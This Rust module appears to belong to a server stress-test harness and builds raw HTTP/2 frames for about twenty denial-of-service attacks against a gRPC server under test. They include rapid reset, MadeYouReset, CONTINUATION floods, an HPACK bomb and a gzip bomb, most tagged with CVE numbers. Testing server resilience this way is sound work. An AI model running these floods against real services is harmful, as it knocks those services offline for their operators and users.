//! The attacks themselves: what is sent on one connection, and how often.

use std::{io::Write as _, time::Duration};

use flate2::{Compression, write::GzEncoder};

use super::frames::*;

/// One attack.
pub(super) struct Attack {
    pub(super) name: &'static str,
    /// How many times `step` is sent: on one connection, or with `spread` each on a connection of its own.
    pub(super) times: u32,
    pub(super) spread: bool,
    /// Without answers read, the server has nowhere to put them.
    pub(super) reads: bool,
    /// Bytes of the receive buffer, where it matters.
    pub(super) receive_buffer: Option<u32>,
    /// What precedes the first step, preface included.
    pub(super) first: Vec<u8>,
    /// Appends the `n`th step.
    pub(super) step: Step,
    /// How long the connections are kept after the last step.
    pub(super) hold: Duration,
}

/// Appends the bytes of one step.
pub(super) type Step = Box<dyn FnMut(u32, &mut Vec<u8>) + Send>;

/// Methods of the server under test that answer in the ways that attacks need.
pub(super) struct Paths {
    /// Answers at once.
    pub(super) quick: String,
    /// Takes a second to answer `slow_request`.
    pub(super) slow: String,
    /// Answers `long_request` with as much as it may.
    pub(super) long: String,
    /// Waits for requests as long as they may come.
    pub(super) open: String,
}

impl Paths {
    /// Those of the interoperability test server.
    pub(super) fn of_test_service() -> Self {
        let method = |name: &str| format!("/grpc.testing.TestService/{name}");
        Self {
            quick: method("EmptyCall"),
            slow: method("StreamingOutputCall"),
            long: method("StreamingOutputCall"),
            open: method("StreamingInputCall"),
        }
    }

    /// One path for all.
    pub(super) fn all(path: &str) -> Self {
        Self { quick: path.into(), slow: path.into(), long: path.into(), open: path.into() }
    }
}

/// All attacks at full size.
pub(super) fn attacks(paths: &Paths) -> Vec<Attack> {
    let mut attacks = vec![rapid_reset(paths), rapid_reset_of_slow_calls(paths)];
    attacks.extend(made_you_reset(paths));
    attacks.extend(continuation_floods(paths));
    attacks.extend([
        flood("ping_flood", 200_000, |_, out| frame(out, PING, 0, 0, b"polywire")),
        flood("settings_flood", 200_000, |_, out| frame(out, SETTINGS, 0, 0, &[])),
        reset_flood(paths),
        priority_loop(),
        empty_header_fields(paths),
        internal_buffering(paths),
        data_dribble(paths),
        empty_frames(paths),
        hpack_bomb(paths),
        table_size_churn(paths),
        too_many_streams(paths),
        zero_window(paths),
        slow_prefaces(),
        slow_headers(paths),
        length_bomb(paths),
        gzip_bomb(paths),
    ]);
    attacks
}

impl Attack {
    fn new(name: &'static str, times: u32, step: impl FnMut(u32, &mut Vec<u8>) + Send + 'static) -> Self {
        Self {
            name,
            times,
            spread: false,
            reads: true,
            receive_buffer: None,
            first: hello(),
            step: Box::new(step),
            hold: Duration::from_millis(300),
        }
    }
}

/// CVE-2023-44487.
fn rapid_reset(paths: &Paths) -> Attack {
    let block = request_block(&paths.quick);
    Attack::new("rapid_reset", 20_000, move |n, out| {
        frame(out, HEADERS, END_HEADERS | END_STREAM, stream(n), &block);
        number_frame(out, RST_STREAM, stream(n), CANCEL);
    })
}

/// The same with calls that keep a handler busy.
fn rapid_reset_of_slow_calls(paths: &Paths) -> Attack {
    let block = request_block(&paths.slow);
    Attack::new("rapid_reset_of_slow_calls", 20_000, move |n, out| {
        frame(out, HEADERS, END_HEADERS, stream(n), &block);
        frame(out, DATA, END_STREAM, stream(n), &slow_request());
        number_frame(out, RST_STREAM, stream(n), CANCEL);
    })
}

/// CVE-2025-8671: frames that make the server reset the stream by itself.
fn made_you_reset(paths: &Paths) -> Vec<Attack> {
    let play = |name, breach: fn(u32, &mut Vec<u8>)| {
        let block = request_block(&paths.slow);
        Attack::new(name, 20_000, move |n, out| {
            frame(out, HEADERS, END_HEADERS, stream(n), &block);
            frame(out, DATA, END_STREAM, stream(n), &slow_request());
            breach(stream(n), out);
        })
    };
    vec![
        play("made_you_reset_zero_increment", |stream, out| number_frame(out, WINDOW_UPDATE, stream, 0)),
        play("made_you_reset_window_overflow", |stream, out| number_frame(out, WINDOW_UPDATE, stream, WINDOW_MAX)),
        play("made_you_reset_short_priority", |stream, out| frame(out, PRIORITY, 0, stream, &[0; 4])),
        play("made_you_reset_self_priority", |stream, out| {
            let mut payload = stream.to_be_bytes().to_vec();
            payload.push(16);
            frame(out, PRIORITY, 0, stream, &payload);
        }),
        play("made_you_reset_headers_after_end", |stream, out| {
            frame(out, HEADERS, END_HEADERS | END_STREAM, stream, &request_block("/"));
        }),
        play("made_you_reset_data_after_end", |stream, out| frame(out, DATA, END_STREAM, stream, b"late")),
    ]
}

/// CVE-2024-27316 and its kin: a header block without end.
fn continuation_floods(paths: &Paths) -> Vec<Attack> {
    let play = |name, times, fragment: Vec<u8>| {
        let mut attack = Attack::new(name, times, move |_, out| frame(out, CONTINUATION, 0, stream(0), &fragment));
        frame(&mut attack.first, HEADERS, END_STREAM, stream(0), &request_block(&paths.quick));
        attack
    };
    let mut fields = Vec::new();
    (0..4).for_each(|_| literal(&mut fields, b"x-field", &[b'v'; 4_000]));
    let mut text = Vec::new();
    huffman_literal(&mut text, b"x-field", 16_000);
    let times = |bytes: usize, fragment: &[u8]| u32::try_from(bytes / fragment.len()).expect("a few thousand");
    vec![
        play("continuation_flood", times(64 << 20, &fields), fields),
        play("continuation_flood_empty", 200_000, Vec::new()),
        play("continuation_flood_huffman", times(16 << 20, &text), text),
    ]
}

/// Frames that ask for an answer which is never read: CVE-2019-9512 and CVE-2019-9515.
fn flood(name: &'static str, times: u32, step: impl FnMut(u32, &mut Vec<u8>) + Send + 'static) -> Attack {
    Attack { reads: false, hold: Duration::from_secs(1), ..Attack::new(name, times, step) }
}

/// CVE-2019-9514: each malformed request wants a RST_STREAM.
fn reset_flood(paths: &Paths) -> Attack {
    let block = malformed_block(&paths.quick);
    flood("reset_flood", 20_000, move |n, out| frame(out, HEADERS, END_HEADERS | END_STREAM, stream(n), &block))
}

/// CVE-2019-9513: a thousand idle streams that change places.
fn priority_loop() -> Attack {
    Attack::new("priority_loop", 200_000, |n, out| {
        let (child, parent) = (stream(n % 1_000), stream((n * 7 + 1) % 1_000));
        if child != parent {
            let mut payload = (parent | 1 << 31).to_be_bytes().to_vec();
            payload.push((n % 256) as u8);
            frame(out, PRIORITY, 0, child, &payload);
        }
    })
}

/// CVE-2019-9516: fields without name and value, 5,000 in a request.
fn empty_header_fields(paths: &Paths) -> Attack {
    let mut block = request_block(&paths.quick);
    (0..5_000).for_each(|_| literal(&mut block, b"", b""));
    Attack::new("empty_header_fields", 40, move |n, out| {
        frame(out, HEADERS, END_HEADERS | END_STREAM, stream(n), &block);
    })
}

/// CVE-2019-9517: the windows are open, the socket is not.
fn internal_buffering(paths: &Paths) -> Attack {
    let block = request_block(&paths.long);
    let mut attack = flood("internal_buffering", 500, move |n, out| {
        frame(out, HEADERS, END_HEADERS, stream(n), &block);
        frame(out, DATA, END_STREAM, stream(n), &long_request());
    });
    setting(&mut attack.first, SETTINGS_INITIAL_WINDOW_SIZE, WINDOW_MAX);
    number_frame(&mut attack.first, WINDOW_UPDATE, 0, WINDOW_MAX - 65_535);
    Attack { receive_buffer: Some(2_048), hold: Duration::from_secs(2), ..attack }
}

/// CVE-2019-9511: twenty answers byte by byte.
fn data_dribble(paths: &Paths) -> Attack {
    let mut attack = Attack::new("data_dribble", 20_000, |n, out| number_frame(out, WINDOW_UPDATE, stream(n % 20), 1));
    setting(&mut attack.first, SETTINGS_INITIAL_WINDOW_SIZE, 1);
    for n in 0..20 {
        frame(&mut attack.first, HEADERS, END_HEADERS, stream(n), &request_block(&paths.long));
        frame(&mut attack.first, DATA, END_STREAM, stream(n), &long_request());
    }
    attack
}

/// CVE-2019-9518.
fn empty_frames(paths: &Paths) -> Attack {
    let mut attack = Attack::new("empty_frames", 200_000, |_, out| frame(out, DATA, 0, stream(0), &[]));
    frame(&mut attack.first, HEADERS, END_HEADERS, stream(0), &request_block(&paths.open));
    attack
}

/// CVE-2016-6581: a big field in the table, named by one byte again and again.
fn hpack_bomb(paths: &Paths) -> Attack {
    let mut big = request_block(&paths.quick);
    indexed_literal(&mut big, b"x-big", &[b'b'; 4_000]);
    let mut references = request_block(&paths.quick);
    references.extend([0x80 | 62; 16_000]); // the newest entry of the dynamic table
    let mut attack = Attack::new("hpack_bomb", 50, move |n, out| {
        frame(out, HEADERS, END_HEADERS | END_STREAM, stream(n + 1), &references);
    });
    frame(&mut attack.first, HEADERS, END_HEADERS | END_STREAM, stream(0), &big);
    attack
}

/// The table shrinks to nothing and grows back in every block.
fn table_size_churn(paths: &Paths) -> Attack {
    let mut block = vec![0x20, 0x3F, 0xE1, 0x1F]; // 0, then 4,096
    block.extend(request_block(&paths.quick));
    indexed_literal(&mut block, b"x-field", &[b'v'; 100]);
    Attack::new("table_size_churn", 5_000, move |n, out| {
        frame(out, HEADERS, END_HEADERS | END_STREAM, stream(n), &block);
    })
}

fn too_many_streams(paths: &Paths) -> Attack {
    let block = request_block(&paths.open);
    let attack =
        Attack::new("too_many_streams", 5_000, move |n, out| frame(out, HEADERS, END_HEADERS, stream(n), &block));
    Attack { hold: Duration::from_secs(1), ..attack }
}

fn zero_window(paths: &Paths) -> Attack {
    let block = request_block(&paths.long);
    let mut attack = Attack::new("zero_window", 100, move |n, out| {
        frame(out, HEADERS, END_HEADERS, stream(n), &block);
        frame(out, DATA, END_STREAM, stream(n), &long_request());
    });
    setting(&mut attack.first, SETTINGS_INITIAL_WINDOW_SIZE, 0);
    Attack { hold: Duration::from_secs(2), ..attack }
}

fn slow_prefaces() -> Attack {
    let attack = Attack::new("slow_prefaces", 200, |_, out| out.extend(&PREFACE[..PREFACE.len() / 2]));
    Attack { spread: true, first: Vec::new(), hold: Duration::from_secs(2), ..attack }
}

fn slow_headers(paths: &Paths) -> Attack {
    let block = request_block(&paths.quick);
    let attack = Attack::new("slow_headers", 200, move |_, out| {
        let mut whole = Vec::new();
        frame(&mut whole, HEADERS, END_HEADERS | END_STREAM, stream(0), &block);
        out.extend(&whole[..whole.len() / 2]);
    });
    Attack { spread: true, hold: Duration::from_secs(2), ..attack }
}

/// A prefix that announces 4 GiB − 1.
fn length_bomb(paths: &Paths) -> Attack {
    let block = request_block(&paths.quick);
    Attack::new("length_bomb", 100, move |n, out| {
        frame(out, HEADERS, END_HEADERS, stream(n), &block);
        frame(out, DATA, 0, stream(n), &[0, 0xFF, 0xFF, 0xFF, 0xFF, 0, 0, 0]);
    })
}

/// 64 KiB that become 64 MiB.
fn gzip_bomb(paths: &Paths) -> Attack {
    let mut block = request_block(&paths.quick);
    literal(&mut block, b"grpc-encoding", b"gzip");
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    let zeros = vec![0; 1 << 20];
    (0..64).for_each(|_| encoder.write_all(&zeros).expect("writing into memory"));
    let bomb = envelope(1, &encoder.finish().expect("writing into memory"));
    let mut attack = Attack::new("gzip_bomb", 20, move |n, out| {
        frame(out, HEADERS, END_HEADERS, stream(n), &block);
        let last = bomb.chunks(16_384).count() - 1;
        for (i, chunk) in bomb.chunks(16_384).enumerate() {
            frame(out, DATA, if i == last { END_STREAM } else { 0 }, stream(n), chunk);
        }
    });
    attack.hold = Duration::from_secs(1);
    attack
}

/// The preface and empty settings.
fn hello() -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    frame(&mut out, SETTINGS, 0, 0, &[]);
    out
}

/// `StreamingOutputCallRequest { response_parameters: [{ size: 1, interval_us: 1_000_000 }] }`
fn slow_request() -> Vec<u8> {
    envelope(0, &[0x12, 0x06, 0x08, 0x01, 0x10, 0xC0, 0x84, 0x3D])
}

/// `StreamingOutputCallRequest` that asks for a thousand messages of 64 KiB.
fn long_request() -> Vec<u8> {
    let parameters = [0x12, 0x04, 0x08, 0x80, 0x80, 0x04];
    envelope(0, &parameters.repeat(1_000))
}
